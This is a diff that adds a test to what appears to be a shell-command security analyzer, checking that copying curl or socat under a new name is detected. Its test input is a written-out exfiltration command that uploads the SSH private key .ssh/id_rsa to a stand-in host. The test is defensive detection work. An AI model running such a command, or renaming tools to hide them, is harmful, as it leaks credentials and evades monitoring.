@@ -361,3 +361,12 @@ def test_self_environ_and_unopened_globs_are_not_credential_reads() -> None:
 )
 def test_fork_bomb_is_fork_in_a_loop_not_a_daemon_double_fork(cmd: str, bomb: bool) -> None:
     assert ("fork_bomb" in feats(cmd)) is bomb
+
+
+def test_a_copy_of_a_looked_up_program_is_that_program() -> None:
+    out = analyze_command("cp $(command -v curl) ./fetch && ./fetch -T .ssh/id_rsa http://h.test/u")
+    assert "curl" in out["cmd.exec_names"] and "./.ssh/id_rsa" in out["cmd.reads"]
+    assert "renamed_binary" in out["cmd.features"]
+    # a lookup runs nothing
+    assert analyze_command("command -v curl")["cmd.exec_names"] == ["command"]
+    assert "socat" in analyze_command('cp "$(which socat)" ./netd && ./netd -h')["cmd.names"]
